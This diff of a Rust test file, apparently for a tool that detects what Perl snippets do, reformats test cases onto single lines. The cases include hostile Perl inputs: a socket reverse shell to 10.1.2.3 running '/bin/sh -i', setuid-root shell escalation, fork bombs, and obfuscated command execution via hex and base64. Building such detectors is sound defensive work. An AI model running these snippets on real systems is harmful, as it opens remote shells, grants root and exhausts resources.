@@ -20,10 +20,7 @@ fn running_is_seen_through_every_spelling() {
             ("$c='id'; system(\"$c -u\")", &["shell id -u"]),
             ("my @a=('ls','-l'); system(@a)", &["argv ls|-l"]),
             ("system(pack('H*','756e616d65'))", &["shell uname"]),
-            (
-                "use MIME::Base64; system(decode_base64('dW5hbWU='))",
-                &["shell uname"],
-            ),
+            ("use MIME::Base64; system(decode_base64('dW5hbWU='))", &["shell uname"]),
             ("system(join '', map {chr} (105,100))", &["shell id"]),
             ("system(join('', 'i', 'd'))", &["shell id"]),
             ("system(reverse('di'))", &["shell id"]),
@@ -32,19 +29,13 @@ fn running_is_seen_through_every_spelling() {
             ("do '/srv/x.pl'", &["script perl /srv/x.pl"]),
             ("require './x.pl'", &["script perl ./x.pl"]),
             ("open(F, \"id|\"); print <F>;", &["shell id"]),
-            (
-                "open(F, '| /usr/sbin/sendmail -t')",
-                &["shell /usr/sbin/sendmail -t"],
-            ),
+            ("open(F, '| /usr/sbin/sendmail -t')", &["shell /usr/sbin/sendmail -t"]),
             ("open(my $p, '-|', 'ls', '-l') or die", &["argv ls|-l"]),
             (
                 "use POSIX qw(setuid); POSIX::setuid(0); exec \"/bin/sh\"",
                 &["user 0", "shell /bin/sh"],
             ),
-            (
-                "$< = 0; $> = 0; exec '/bin/sh'",
-                &["user 0", "shell /bin/sh"],
-            ),
+            ("$< = 0; $> = 0; exec '/bin/sh'", &["user 0", "shell /bin/sh"]),
             ("&{\"system\"}('id')", &["shell id"]),
             ("my $f = 'system'; &$f('id')", &["shell id"]),
             ("CORE::system('id')", &["shell id"]),
@@ -52,10 +43,7 @@ fn running_is_seen_through_every_spelling() {
             ("system $ENV{TARGET}", &["shell /srv/data.bin"]),
             ("system($ARGV[0])", &["shell first-arg"]),
             ("exec shift", &["shell first-arg"]),
-            (
-                "sub r { my $c = shift; system($c) } r('id');",
-                &["shell id"],
-            ),
+            ("sub r { my $c = shift; system($c) } r('id');", &["shell id"]),
             ("system <<'X';\necho hi\nX\n", &["shell echo hi\n"]),
             ("fork while fork", &["exhaust"]),
             ("while(1){fork}", &["exhaust"]),
@@ -72,29 +60,17 @@ fn files_and_connections() {
         Perl,
         &[
             ("open(F,'<','/etc/hosts'); print <F>", &["read /etc/hosts"]),
-            (
-                "open F, '/etc/hosts'; while(<F>){print}",
-                &["read /etc/hosts"],
-            ),
+            ("open F, '/etc/hosts'; while(<F>){print}", &["read /etc/hosts"]),
             (
                 "open(my $fh, '>', '/tmp/x') or die; print $fh 'DATA'; close $fh",
                 &["write /tmp/x <- DATA"],
             ),
-            (
-                "open(F,'>>/tmp/x'); print F 'DATA'",
-                &["append /tmp/x <- DATA"],
-            ),
-            (
-                "unlink '/tmp/a', '/tmp/b'",
-                &["delete /tmp/a", "delete /tmp/b"],
-            ),
+            ("open(F,'>>/tmp/x'); print F 'DATA'", &["append /tmp/x <- DATA"]),
+            ("unlink '/tmp/a', '/tmp/b'", &["delete /tmp/a", "delete /tmp/b"]),
             ("use File::Path; rmtree('/srv/x')", &["tree /srv/x"]),
             ("chmod 04755, '/tmp/x'", &["mode 4755 /tmp/x"]),
             ("chown 0, 0, '/tmp/x'", &["owner 0:0 /tmp/x"]),
-            (
-                "use File::Copy; copy('/etc/hosts','/tmp/h')",
-                &["copy /etc/hosts -> /tmp/h"],
-            ),
+            ("use File::Copy; copy('/etc/hosts','/tmp/h')", &["copy /etc/hosts -> /tmp/h"]),
             ("rename 'a','b'", &["copy a -> b"]),
             (
                 "use Socket;$i=\"10.1.2.3\";$p=9;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
@@ -143,10 +119,7 @@ fn harmless_look_alikes_give_nothing() {
             ("=pod\nsystem('x')\n=cut\nprint 1", &["print 1"]),
             ("$sum += $F[0]; END { print $sum }", &[]),
             ("print join(',', sort keys %h)", &[]),
-            (
-                "my %h = (system => 1, exec => 2); print $h{system}",
-                &["print 1"],
-            ),
+            ("my %h = (system => 1, exec => 2); print $h{system}", &["print 1"]),
             ("print qq{exec \"x\"}", &["print exec \"x\""]),
             ("use strict; use warnings; print 'x' x 3", &["print xxx"]),
             ("@lines = <STDIN>; print reverse @lines", &[]),
